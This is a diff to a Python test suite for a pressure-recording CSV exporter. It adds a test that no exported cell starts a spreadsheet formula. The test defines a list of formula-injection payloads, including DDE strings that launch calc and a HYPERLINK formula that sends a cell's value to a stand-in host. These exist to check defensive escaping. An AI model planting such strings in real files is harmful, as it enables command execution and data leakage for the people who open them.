@@ -40,8 +40,8 @@ def test_export_has_metadata_header_columns_and_markers(tmp_path):
     rec = make_session(tmp_path / "s.pressure")
     out = export_csv(rec, tmp_path / "s.csv", unit="kgf")
     text = out.read_text(encoding="utf-8")
-    assert '# labels: {"client": "Ann, #1"' in text
-    assert '# event: 1.000000 marker "spot #2, left"' in text
+    assert '# labels: {"client": "Ann\\u002c #1"' in text  # a comma in text stays in its cell
+    assert '# event: 1.000000 marker "spot #2\\u002c left"' in text
     header, rows = read_export(out)
     assert header == ["time_s", "raw", "force_kgf", "smoothed_kgf", "zone", "marker"]
     assert len(rows) == len(rec)
@@ -369,3 +369,43 @@ def test_clock_time_stamps(tmp_path):
     assert trace.report.force_unit == "kgf" and trace.report.skipped == 1
     src.write_text("time;N\n10:00:00.5;1\n10:00:01.5;2\n10:00:02.5;3\n")
     np.testing.assert_allclose(read_csv(src).t, [0, 1, 2])
+
+
+HOSTILE = ["=1+1", "+cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?a="&A1,"click")',
+           "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "\t=1+1", "\r=1+1", "x,=1+1", 'a","=1+1']
+
+
+def test_export_cells_never_start_a_formula(tmp_path):
+    """Markers, labels, event texts and metadata written so no spreadsheet cell runs a formula."""
+    t = np.arange(2000) / 1000.0
+    force = -5.0 + 10.0 * t  # negative numbers must stay numbers
+    meta = {"unit": "N", "labels": {h: h for h in HOSTILE}, "note": HOSTILE,
+            "=1+1, =2+2": "x, =3+3"}
+    src = tmp_path / "h.pressure"
+    with RecordingWriter(src, meta) as w:
+        w.append(Block.make(t, force, force))
+        for i, h in enumerate(HOSTILE):
+            w.add_event(0.1 * (i + 1), "marker", h)
+            w.add_event(0.1 * (i + 1) + 0.01, "note", h)
+    out = export_csv(open_recording(src), tmp_path / "h.csv")
+    with open(out, newline="", encoding="utf-8") as f:
+        cells = [c for row in csv.reader(f) for c in row]
+    bad = [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))
+           or (c.startswith("-") and not _is_number(c))]
+    assert bad == []
+    header, rows = read_export(out)
+    assert any(r[2].startswith("-") for r in rows)  # a negative force is still a number
+    markers = [r[5] for r in rows if r[5]]
+    assert "'=1+1" in markers and "'+cmd|' /C calc'!A0" in markers
+    import_csv(out, tmp_path / "back.pressure")  # our own import reads the text back
+    back = open_recording(tmp_path / "back.pressure")
+    assert {"=1+1", "+cmd|' /C calc'!A0", "x,=1+1"} <= {e.text for e in back.markers}
+    assert back.meta["labels"]["x,=1+1"] == "x,=1+1"
+
+
+def _is_number(text):
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
